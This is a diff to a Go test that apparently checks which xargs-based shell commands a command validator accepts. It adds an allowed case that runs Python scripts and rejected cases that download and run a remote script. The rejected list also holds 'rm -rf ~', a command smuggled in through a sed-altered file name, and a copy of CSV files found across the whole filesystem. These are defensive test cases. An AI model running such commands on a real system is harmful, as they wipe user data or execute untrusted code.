@@ -264,6 +264,7 @@ func TestNamesInTexts(t *testing.T) {
 		"ls data | sort -r | xargs -I{} cp data/{} src/{}",
 		"ls -1 data | xargs -I{} echo data/{}",
 		"seq 3 | xargs -I{} mkdir -p tmp/{}",
+		"ls tools/*.py | xargs -n1 python3", // as for f in tools/*.py; do python3 "$f"; done
 	}, []string{
 		"ls data | xargs -I{} sh -c 'rm -rf ~/{}; rm -rf ~'",
 		"ls data | xargs -I{} sh -c '{} --force'",
@@ -280,7 +281,9 @@ func TestNamesInTexts(t *testing.T) {
 		"find / -name '*.csv' | xargs -I{} sh -c 'cp {} data'",
 		"cat data/a.csv | xargs -I{} sh -c 'wc -l {}'",
 		"ls data | sed 's/a/;id;/' | xargs -I{} sh -c 'wc -l {}'",
-		"ls tools/*.py | xargs -n1 python3",
+		"curl -so tools/two.py https://example.com/two.py; ls tools/*.py | xargs -n1 python3",
+		"ls tools/*.py ~/*.py | xargs -n1 python3",
+		"ls tools/*.py | sed s,tools,/tmp, | xargs -n1 python3",
 		"ls data | xargs -I{} rm data/{}",
 		"find data -name '*.csv' | xargs -I@ sh -c 'rm @'",
 		"find data -name '*.csv' | xargs -n1 sh -c 'rm \"$0\"'",
